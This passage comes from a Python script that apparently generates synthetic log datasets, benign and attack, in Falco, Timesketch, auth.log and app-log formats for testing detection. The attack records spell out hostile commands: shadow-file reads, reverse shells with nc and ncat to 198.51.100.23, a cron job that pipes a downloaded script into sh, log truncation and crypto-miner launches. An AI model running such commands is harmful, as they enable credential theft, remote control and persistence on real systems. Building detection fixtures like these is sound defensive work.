        L_(bt, "sudo", "  kwilson : TTY=pts/0 ; PWD=/home/kwilson ; USER=root ; COMMAND=/usr/bin/apt upgrade -y")
        L_(bt, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by kwilson(uid=1002)")
        L_(bt + dt.timedelta(seconds=40), "sudo", "pam_unix(sudo:session): session closed for user root")
    elif k == 3:
        L_(bt, "systemd[1]", random.choice(["Starting Daily apt upgrade and clean activities...", "Finished Daily apt upgrade and clean activities.", "Starting Message of the Day...", "Finished Message of the Day.", "Started Session 77 of User kwilson."]))
    elif k == 4:
        L_(bt, "sshd[%d]" % np_(), "Received disconnect from 10.0.2.17 port %d:11: disconnected by user" % random.randint(40000, 60000))
        L_(bt, "systemd-logind[598]", "Session %d logged out. Waiting for processes to exit." % (70 + i))
    elif k == 6:
        L_(bt, "systemd-logind[598]", "New session %d of user deploy." % (70 + i))
    elif k == 7:
        L_(bt, "sudo", "   deploy : TTY=pts/2 ; PWD=/srv/app ; USER=www-data ; COMMAND=/usr/bin/php artisan migrate --force")
    else:
        L_(bt, "systemd[1]", "logrotate.service: Succeeded.")
    i += 1
lines.sort(key=lambda x: x[0])
with open(OUT + "/benign/auth.log", "w") as f:
    for _, l in lines[:100]: f.write(l + "\n")

# ---------------- attack/falco.jsonl ----------------
import calendar
T4 = dt.datetime(2024, 3, 19, 23, 40, 2, 118000)
NODE = "ip-10-0-1-23.eu-west-1.compute.internal"
CID = "3ad7b26ded6d"
POD = "payments-api-7d9c8f6b5-xk2lp"
def falco(sec, rule, prio, tags, out_tmpl, fields, host=NODE):
    t = T4 + dt.timedelta(seconds=sec, microseconds=random.randint(0, 999999))
    frac = t.microsecond * 1000 + random.randint(0, 999)
    ts = t.strftime("%Y-%m-%dT%H:%M:%S.") + "%09d" % frac + "Z"
    base = {"container.id": CID, "container.name": "payments-api", "container.image.repository": "registry.acme.io/payments-api", "container.image.tag": "1.14.2", "k8s.ns.name": "payments", "k8s.pod.name": POD, "evt.time": calendar.timegm(t.timetuple()) * 10**9 + frac, "user.name": "root", "user.uid": 0, "user.loginuid": -1}
    base.update(fields)
    output = ts[11:] + ": " + prio + " " + out_tmpl.format(**{k.replace(".", "_").replace("[", "_").replace("]", ""): v for k, v in base.items()})
    return (t, {"hostname": host, "output": output, "output_fields": base, "priority": prio, "rule": rule, "source": "syscall", "tags": tags, "time": ts})
F = []
F.append(falco(0, "Terminal shell in container", "Notice", ["container", "maturity_stable", "mitre_execution", "shell", "T1059"],
    "A shell was spawned in a container with an attached terminal (evt_type=execve user={user_name} user_uid={user_uid} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} terminal=34816 container_id={container_id} container_name={container_name} k8s_ns={k8s_ns_name} k8s_pod_name={k8s_pod_name})",
    {"evt.type": "execve", "proc.name": "bash", "proc.exepath": "/usr/bin/bash", "proc.pname": "runc", "proc.cmdline": "bash", "proc.tty": 34816}))
F.append(falco(14, "Read sensitive file untrusted", "Warning", ["filesystem", "host", "container", "maturity_stable", "mitre_credential_access", "T1555"],
    "Sensitive file opened for reading by non-trusted program (file={fd_name} gparent={proc_aname_2} ggparent=containerd-shim evt_type=openat user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name} k8s_pod_name={k8s_pod_name})",
    {"evt.type": "openat", "fd.name": "/etc/shadow", "proc.name": "cat", "proc.exepath": "/usr/bin/cat", "proc.pname": "bash", "proc.aname[2]": "runc", "proc.cmdline": "cat /etc/shadow"}))
F.append(falco(31, "Search Private Keys or Passwords", "Warning", ["host", "container", "maturity_stable", "mitre_credential_access", "T1552.001"],
    "Grep private keys or passwords activities found (evt_type=execve user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "execve", "proc.name": "find", "proc.exepath": "/usr/bin/find", "proc.pname": "bash", "proc.cmdline": "find / -name id_rsa"}))
F.append(falco(47, "Contact K8S API Server From Container", "Notice", ["container", "network", "k8s", "maturity_stable", "mitre_discovery", "T1565"],
    "Unexpected connection to K8s API Server from container (connection={fd_name} lport=43210 rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "connect", "fd.name": "10.0.3.17:43210->10.96.0.1:443", "fd.sip": "10.96.0.1", "fd.sport": 443, "fd.cip": "10.0.3.17", "proc.name": "curl", "proc.exepath": "/usr/bin/curl", "proc.pname": "bash", "proc.cmdline": "curl -sk https://10.96.0.1:443/api/v1/namespaces/kube-system/secrets -H Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6"}))
F.append(falco(63, "Drop and execute new binary in container", "Critical", ["container", "process", "maturity_stable", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"],
    "Executing binary not part of base image (proc_exe={proc_exe} proc_sname=bash gparent=runc proc_exe_ino_ctime=1710891665000000000 proc_exe_ino_mtime=1710891665000000000 evt_type=execve user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "execve", "proc.exe": "/tmp/kdevtmpfsi", "proc.name": "kdevtmpfsi", "proc.exepath": "/tmp/kdevtmpfsi", "proc.pname": "bash", "proc.cmdline": "kdevtmpfsi -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ"}))
F.append(falco(64, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice", ["container", "network", "process", "maturity_stable", "mitre_execution", "T1059"],
    "Redirect stdout/stdin to network connection (gparent=runc ggparent=containerd-shim fd.sip={fd_sip} connection={fd_name} lport=38812 rport=4444 fd_type=ipv4 fd_proto=tcp evt_type=dup2 user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "dup2", "fd.name": "10.0.3.17:38812->198.51.100.23:4444", "fd.sip": "198.51.100.23", "fd.sport": 4444, "proc.name": "bash", "proc.exepath": "/usr/bin/bash", "proc.pname": "sh", "proc.cmdline": "bash -i"}))
F.append(falco(80, "Netcat Remote Code Execution in Container", "Warning", ["container", "network", "process", "maturity_stable", "mitre_execution", "T1059"],
    "Netcat runs inside container that allows remote code execution (evt_type=execve user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "execve", "proc.name": "nc", "proc.exepath": "/usr/bin/nc.traditional", "proc.pname": "bash", "proc.cmdline": "nc -e /bin/sh 198.51.100.23 4445"}))
F.append(falco(96, "Write below etc", "Error", ["host", "container", "filesystem", "maturity_stable", "mitre_persistence", "T1098"],
    "File below /etc opened for writing (file={fd_name} pcmdline=bash gparent=runc ggparent=containerd-shim gggparent=containerd evt_type=openat user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "openat", "fd.name": "/etc/ld.so.preload", "proc.name": "tee", "proc.exepath": "/usr/bin/tee", "proc.pname": "bash", "proc.cmdline": "tee -a /etc/ld.so.preload"}))
F.append(falco(112, "Packet socket created in container", "Notice", ["container", "network", "maturity_stable", "mitre_credential_access", "T1557.002"],
    "Packet socket was created in a container (socket_info={evt_args} connection= lport= rport= fd_type= fd_proto= evt_type=socket user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "socket", "evt.args": "domain=17(AF_PACKET) type=3 proto=768", "proc.name": "tcpdump", "proc.exepath": "/usr/bin/tcpdump", "proc.pname": "bash", "proc.cmdline": "tcpdump -i eth0 -w /tmp/cap.pcap"}))
F.append(falco(140, "Launch Privileged Container", "Notice", ["container", "cis", "maturity_stable", "mitre_execution", "T1610", "PCI_DSS_10.2.5"],
    "Privileged container started (evt_type=container user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} container_image={container_image_repository} container_image_tag={container_image_tag} k8s_ns={k8s_ns_name} k8s_pod_name={k8s_pod_name})",
    {"evt.type": "container", "container.id": "9c41f0a5e2b7", "container.name": "debug-priv", "container.image.repository": "docker.io/library/alpine", "container.image.tag": "3.19", "container.privileged": True, "k8s.ns.name": "default", "k8s.pod.name": "debug-priv", "proc.name": "container:9c41f0a5e2b7", "proc.exepath": "", "proc.pname": "", "proc.cmdline": "container:9c41f0a5e2b7"}))
F.append(falco(152, "Terminal shell in container", "Notice", ["container", "maturity_stable", "mitre_execution", "shell", "T1059"],
    "A shell was spawned in a container with an attached terminal (evt_type=execve user={user_name} user_uid={user_uid} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} terminal=34817 container_id={container_id} container_name={container_name} k8s_ns={k8s_ns_name} k8s_pod_name={k8s_pod_name})",
    {"evt.type": "execve", "container.id": "9c41f0a5e2b7", "container.name": "debug-priv", "k8s.ns.name": "default", "k8s.pod.name": "debug-priv", "proc.name": "sh", "proc.exepath": "/bin/busybox", "proc.pname": "runc", "proc.cmdline": "sh", "proc.tty": 34817}))
F.append(falco(171, "Debugfs Launched in Privileged Container", "Warning", ["container", "cis", "process", "maturity_stable", "mitre_privilege_escalation", "T1611"],
    "Debugfs launched started in a privileged container (evt_type=execve user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "execve", "container.id": "9c41f0a5e2b7", "container.name": "debug-priv", "k8s.ns.name": "default", "k8s.pod.name": "debug-priv", "proc.name": "debugfs", "proc.exepath": "/sbin/debugfs", "proc.pname": "sh", "proc.cmdline": "debugfs /dev/nvme0n1p1"}))
F.append(falco(190, "Read sensitive file untrusted", "Warning", ["filesystem", "host", "container", "maturity_stable", "mitre_credential_access", "T1555"],
    "Sensitive file opened for reading by non-trusted program (file={fd_name} evt_type=openat user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "openat", "container.id": "9c41f0a5e2b7", "container.name": "debug-priv", "k8s.ns.name": "default", "k8s.pod.name": "debug-priv", "fd.name": "/host/etc/shadow", "proc.name": "cat", "proc.exepath": "/bin/busybox", "proc.pname": "sh", "proc.cmdline": "cat /host/etc/shadow"}))
F.append(falco(205, "Search Private Keys or Passwords", "Warning", ["host", "container", "maturity_stable", "mitre_credential_access", "T1552.001"],
    "Grep private keys or passwords activities found (evt_type=execve user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "execve", "container.id": "9c41f0a5e2b7", "container.name": "debug-priv", "k8s.ns.name": "default", "proc.name": "grep", "proc.exepath": "/bin/busybox", "proc.pname": "sh", "proc.cmdline": "grep -r BEGIN RSA PRIVATE /host/home"}))
F.append(falco(231, "Write below etc", "Error", ["host", "container", "filesystem", "maturity_stable", "mitre_persistence", "T1098"],
    "File below /etc opened for writing (file={fd_name} evt_type=openat user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "openat", "container.id": "host", "container.name": "host", "k8s.ns.name": "", "k8s.pod.name": "", "fd.name": "/etc/cron.d/sysupdate", "proc.name": "sh", "proc.exepath": "/bin/sh", "proc.pname": "chroot", "proc.cmdline": "sh -c echo '* * * * * root curl -fsSL http://198.51.100.23/x.sh | sh' > /etc/cron.d/sysupdate"}))
F.append(falco(260, "Clear Log Activities", "Warning", ["host", "container", "filesystem", "maturity_stable", "mitre_defense_evasion", "T1070", "NIST_800-53_AU-10"],
    "Log files were tampered (file={fd_name} evt_type=openat user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "openat", "container.id": "host", "container.name": "host", "k8s.ns.name": "", "k8s.pod.name": "", "fd.name": "/var/log/auth.log", "proc.name": "truncate", "proc.exepath": "/usr/bin/truncate", "proc.pname": "sh", "proc.cmdline": "truncate -s 0 /var/log/auth.log"}))
F.append(falco(262, "Clear Log Activities", "Warning", ["host", "container", "filesystem", "maturity_stable", "mitre_defense_evasion", "T1070", "NIST_800-53_AU-10"],
    "Log files were tampered (file={fd_name} evt_type=openat user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "openat", "container.id": "host", "container.name": "host", "k8s.ns.name": "", "k8s.pod.name": "", "fd.name": "/var/log/syslog", "proc.name": "truncate", "proc.exepath": "/usr/bin/truncate", "proc.pname": "sh", "proc.cmdline": "truncate -s 0 /var/log/syslog"}))
F.append(falco(300, "Terminal shell in container", "Notice", ["container", "maturity_stable", "mitre_execution", "shell", "T1059"],
    "A shell was spawned in a container with an attached terminal (evt_type=execve user={user_name} user_uid={user_uid} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} terminal=34818 container_id={container_id} container_name={container_name} k8s_ns={k8s_ns_name} k8s_pod_name={k8s_pod_name})",
    {"evt.type": "execve", "user.name": "node", "user.uid": 1000, "container.id": "f1e2d3c4b5a6", "container.name": "web-frontend", "k8s.ns.name": "web", "k8s.pod.name": "web-frontend-6b8d9c7f4-p9q2r", "proc.name": "sh", "proc.exepath": "/bin/sh", "proc.pname": "runc", "proc.cmdline": "sh -c ls /app"}, host="ip-10-0-2-41.eu-west-1.compute.internal"))
F.append(falco(333, "Netcat Remote Code Execution in Container", "Warning", ["container", "network", "process", "maturity_stable", "mitre_execution", "T1059"],
    "Netcat runs inside container that allows remote code execution (evt_type=execve user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "execve", "proc.name": "ncat", "proc.exepath": "/usr/bin/ncat", "proc.pname": "sh", "proc.cmdline": "ncat 198.51.100.23 4446 -e /bin/bash"}))
F.append(falco(360, "Drop and execute new binary in container", "Critical", ["container", "process", "maturity_stable", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"],
    "Executing binary not part of base image (proc_exe={proc_exe} proc_sname=sh gparent=runc evt_type=execve user={user_name} process={proc_name} proc_exepath={proc_exepath} parent={proc_pname} command={proc_cmdline} container_id={container_id} k8s_ns={k8s_ns_name})",
    {"evt.type": "execve", "proc.exe": "/dev/shm/.x/xmrig", "proc.name": "xmrig", "proc.exepath": "/dev/shm/.x/xmrig", "proc.pname": "sh", "proc.cmdline": "xmrig --donate-level 1 -o 198.51.100.99:3333"}))
F.sort(key=lambda x: x[0])
with open(OUT + "/attack/falco.jsonl", "w") as f:
    for _, e in F: f.write(json.dumps(e, separators=(",", ":")) + "\n")

# ---------------- attack/timesketch-{nested,flat}.jsonl ----------------
import string
ALPH = string.ascii_letters + string.digits + "-_"
def tsid(): return "".join(random.choice(ALPH) for _ in range(20))
TS_INDEX = "4c5afdf60c6e49499801368b7f238353"
def micros(t): return calendar.timegm(t.timetuple()) * 10**6 + t.microsecond
def xesc(v): return str(v).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
def to_xml(e):
    s = e["Event"]["System"]
    eid = s["EventID"]; q = ""
    if isinstance(eid, dict): q = ' Qualifiers="%s"' % eid["#attributes"]["Qualifiers"]; eid = eid["#text"]
    prov = s["Provider"]["#attributes"]
    pa = ' '.join('%s="%s"' % (k, xesc(v)) for k, v in prov.items())
    out = ['<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">', '  <System>', '    <Provider %s/>' % pa,
           '    <EventID%s>%s</EventID>' % (q, eid), '    <Version>%s</Version>' % s["Version"], '    <Level>%s</Level>' % s["Level"],
           '    <Task>%s</Task>' % s["Task"], '    <Opcode>%s</Opcode>' % s["Opcode"], '    <Keywords>%s</Keywords>' % s["Keywords"],
           '    <TimeCreated SystemTime="%s"/>' % s["TimeCreated"]["#attributes"]["SystemTime"].replace("Z", "").replace("T", " ") ,
           '    <EventRecordID>%s</EventRecordID>' % s["EventRecordID"], '    <Correlation/>',
           '    <Execution ProcessID="%s" ThreadID="%s"/>' % (s["Execution"]["#attributes"]["ProcessID"], s["Execution"]["#attributes"]["ThreadID"]),
           '    <Channel>%s</Channel>' % s["Channel"], '    <Computer>%s</Computer>' % s["Computer"],
           '    <Security UserID="%s"/>' % s["Security"]["#attributes"]["UserID"] if s["Security"] else '    <Security/>', '  </System>']
    ed = e["Event"].get("EventData")
    if ed is not None:
        if "Data" in ed: ed = {d["@Name"]: d["#text"] for d in ed["Data"]}
        out.append('  <EventData>')
        for k, v in ed.items(): out.append('    <Data Name="%s">%s</Data>' % (k, xesc(v)))
        out.append('  </EventData>')
    ud = e["Event"].get("UserData")
    if ud is not None:
        out.append('  <UserData>')
        for k, v in ud.items():
            out.append('    <%s xmlns="%s">' % (k, v["#attributes"]["xmlns"]))
            for kk, vv in v.items():
                if kk != "#attributes": out.append('      <%s>%s</%s>' % (kk, xesc(vv), kk))
            out.append('    </%s>' % k)
        out.append('  </UserData>')
    out.append('</Event>')
    return "\n".join(out) + "\n"
def evtx_msg(e):
    s = e["Event"]["System"]; eid = s["EventID"]
    if isinstance(eid, dict): eid = eid["#text"]
    ed = e["Event"].get("EventData") or {}
    if "Data" in ed: ed = {d["@Name"]: d["#text"] for d in ed["Data"]}
    return ed, int(eid)
EVTX_SEL = []
for _, e in A.out:
    ed, eid = evtx_msg(e)
    if eid == 4625 and len([x for x in EVTX_SEL if evtx_msg(x)[1] == 4625]) >= 8: continue
    if eid in (4625, 4624) and ed.get("IpAddress") == ATK or eid in (4720, 4732, 7045, 1102, 104) or (eid == 1 and any(w in ed.get("CommandLine", "") for w in ("-enc", "certutil", "mimikatz", "comsvcs"))):
        EVTX_SEL.append(e)
TSEV = []
for e in EVTX_SEL:
    s = e["Event"]["System"]; ed, eid = evtx_msg(e)
    t = dt.datetime.strptime(s["TimeCreated"]["#attributes"]["SystemTime"], "%Y-%m-%dT%H:%M:%S.%fZ")
    strings = list(ed.values()) if ed else [v for k, v in list(e["Event"]["UserData"].values())[0].items() if k != "#attributes"]
    fn = {"Security": "Security.evtx", "System": "System.evtx", "Microsoft-Windows-Sysmon/Operational": "Microsoft-Windows-Sysmon%4Operational.evtx"}[s["Channel"]]
    rec = {"__ts_timeline_id": 3, "computer_name": s["Computer"], "data_type": "windows:evtx:record",
           "datetime": t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z", "display_name": "OS:/C:/Windows/System32/winevt/Logs/" + fn,
           "event_identifier": eid, "event_level": s["Level"], "event_version": s["Version"], "filename": "/C:/Windows/System32/winevt/Logs/" + fn,
           "message": "[%d / 0x%04x] Provider name: %s Strings: [%s]" % (eid, eid, s["Provider"]["#attributes"]["Name"], ", ".join("'%s'" % x for x in strings)),
           "message_identifier": eid, "offset": 0, "parser": "winevtx", "provider_identifier": s["Provider"]["#attributes"].get("Guid", ""),
           "record_number": s["EventRecordID"], "recovered": False, "source_name": s["Provider"]["#attributes"]["Name"],
           "strings": strings, "timestamp": micros(t), "timestamp_desc": "Creation Time",
           "user_sid": s["Security"]["#attributes"]["UserID"] if s["Security"] else None, "xml_string": to_xml(e), "tag": [], "label": []}
    if len(TSEV) % 2 == 0: rec["channel"] = s["Channel"]
    TSEV.append((t, rec))
AUTH = [l for l in open(OUT + "/attack/auth.log").read().splitlines() if any(w in l for w in ("Failed password for", "Accepted password", "new user", "add 'backdoor'", "COMMAND=/bin/bash", "COMMAND=/usr/bin/rm", "CMD (curl"))]
for l in AUTH:
    t = dt.datetime.strptime("2024 " + l[:15], "%Y %b %d %H:%M:%S")
    host = l.split()[3]; rp = l.split()[4].rstrip(":")
    body = l.split(": ", 1)[1]
    rep, pid_ = (rp.split("[")[0], int(rp.split("[")[1].rstrip("]"))) if "[" in rp else (rp, None)
    rec = {"__ts_timeline_id": 4, "body": body, "data_type": "syslog:line", "datetime": t.strftime("%Y-%m-%dT%H:%M:%S") + ".000Z",
           "display_name": "OS:/var/log/auth.log", "filename": "/var/log/auth.log", "hostname": host,
           "message": "[%s%s] %s" % (rep, ", pid: %d" % pid_ if pid_ else "", body), "parser": "syslog", "pid": pid_, "reporter": rep,
           "severity": None, "facility": None, "timestamp": micros(t), "timestamp_desc": "Content Modification Time", "tag": [], "label": []}
    if pid_ is None: del rec["pid"]
    TSEV.append((t, rec))
TSEV.sort(key=lambda x: x[0])
with open(OUT + "/attack/timesketch-nested.jsonl", "w") as fn_, open(OUT + "/attack/timesketch-flat.jsonl", "w") as ff:
    for i, (t, rec) in enumerate(TSEV):
        _id = tsid()
        fn_.write(json.dumps({"_index": TS_INDEX, "_id": _id, "_source": rec}, separators=(",", ":")) + "\n")
        flat = dict(rec); flat["_id"] = _id; flat["_index"] = TS_INDEX; flat["__ts_index_name"] = TS_INDEX
        if rec["data_type"] == "syslog:line" and "pid" not in rec: flat["pid"] = float("nan")   # Python json.dumps writes bare NaN
        ff.write(json.dumps(flat, separators=(",", ":")) + "\n")

# ---------------- benign/app.jsonl ----------------
APP = []
t = dt.datetime(2024, 3, 18, 9, 0, 0)
paths = ["/healthz", "/api/v1/orders", "/api/v1/orders/%d", "/static/app.js", "/login", "/api/v1/cart", "/metrics"]
while len(APP) < 100:
    t += dt.timedelta(seconds=random.randint(1, 40), microseconds=random.randint(0, 999999))
    k = random.randint(0, 5)
    if k <= 2:
        p = random.choice(paths)
        if "%d" in p: p = p % random.randint(10000, 99999)
        meth = "POST" if p in ("/login", "/api/v1/cart") and random.random() < 0.5 else "GET"
        ip = "10.0.1.%d" % random.randint(2, 250) if p != "/healthz" else "10.0.0.2"
        APP.append({"time": t.strftime("%Y-%m-%dT%H:%M:%S+00:00"), "remote_addr": ip, "remote_user": "-", "request": "%s %s HTTP/1.1" % (meth, p), "status": random.choice([200, 200, 200, 200, 204, 304, 404]) if p != "/login" else random.choice([200, 302]), "body_bytes_sent": random.randint(0, 40000), "request_time": round(random.random() * 0.3, 3), "http_referer": "-", "http_user_agent": "kube-probe/1.29" if p == "/healthz" else "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36", "host": "app02"})
    elif k == 3:
        APP.append({"ts": round(calendar.timegm(t.timetuple()) + t.microsecond / 1e6, 3), "level": "info", "logger": "checkout", "msg": random.choice(["order created", "payment authorised", "cart updated", "email queued"]), "order_id": random.randint(10000, 99999), "user": random.choice(["c.nguyen@example.com", "p.okafor@example.com", "l.martin@example.com"]), "duration_ms": random.randint(3, 300)})
    elif k == 4:
        APP.append({"@timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.") + t.strftime("%f")[:3] + "Z", "log.level": "INFO", "message": random.choice(["Scheduled job cache-warmup finished", "Connection pool resized to 20", "Config reloaded", "Health check passed"]), "service": {"name": "inventory"}, "host": {"name": "app02"}, "process": {"pid": 2231}})
    else:
        APP.append({"timestamp": calendar.timegm(t.timetuple()) * 1000 + t.microsecond // 1000, "severity": "INFO", "text": "GET /api/v1/stock 200 %dms" % random.randint(2, 80), "hostname": "app03", "program": "stock-svc"})
with open(OUT + "/benign/app.jsonl", "w") as f:
    for e in APP: f.write(json.dumps(e, separators=(",", ":")) + "\n")
